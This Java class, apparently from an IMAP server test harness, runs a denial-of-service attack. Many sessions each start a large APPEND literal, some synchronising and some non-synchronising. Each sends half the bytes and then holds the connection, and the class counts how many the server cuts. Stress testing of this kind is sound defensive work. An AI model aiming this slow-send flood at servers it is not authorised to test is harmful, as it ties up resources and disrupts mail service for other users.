package satchel.attack;

import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Class (c): many sessions each start an APPEND of appendLiteral bytes, send half of it and then hold. Even
 * sessions use a synchronising literal (wait for "+"), odd ones a non-synchronising one (LITERAL+, RFC 7888),
 * whose bytes arrive without the server being asked.
 */
record HalfAppend() implements Attack {
    @Override public String name() { return "c-half-append"; }
    @Override public String what() { return "APPEND literals sent half-way, then held, from many sessions at once"; }

    @Override public String run(Ctx ctx) {
        int n = ctx.sizes().appendSessions();
        long size = ctx.sizes().appendLiteral();
        AtomicInteger started = new AtomicInteger();
        AtomicInteger refused = new AtomicInteger();
        AtomicInteger cut = new AtomicInteger();
        AtomicLong sent = new AtomicLong();
        AtomicLong errors = new AtomicLong();
        byte[] chunk = Ctx.filler(64 * 1024, 'x');
        ctx.parallel(n, errors, i -> {
            Wire w = ctx.login(0, i, 0);
            if (w == null) {
                refused.incrementAndGet();
                return;
            }
            boolean sync = i % 2 == 0;
            w.send("h APPEND INBOX {" + size + (sync ? "" : "+") + "}\r\n");
            if (sync) {
                String cont = w.until("+", "h");
                if (!cont.startsWith("+")) {
                    refused.incrementAndGet();
                    return;
                }
            }
            started.incrementAndGet();
            try {
                for (long left = size / 2; left > 0 && ctx.timeLeft(); left -= chunk.length) {
                    int k = (int) Math.min(chunk.length, left);
                    w.send(chunk, 0, k);
                    sent.addAndGet(k);
                }
            } catch (java.io.IOException e) {
                cut.incrementAndGet();
                return;
            }
            if (w.closedWithin(ctx.msLeft())) cut.incrementAndGet();
        });
        return started + "/" + n + " APPENDs of " + size / (1 << 20) + " MB started (" + refused + " refused), "
                + sent.get() / (1 << 20) + " MB sent, " + cut + " cut by the server, " + errors + " errors";
    }
}
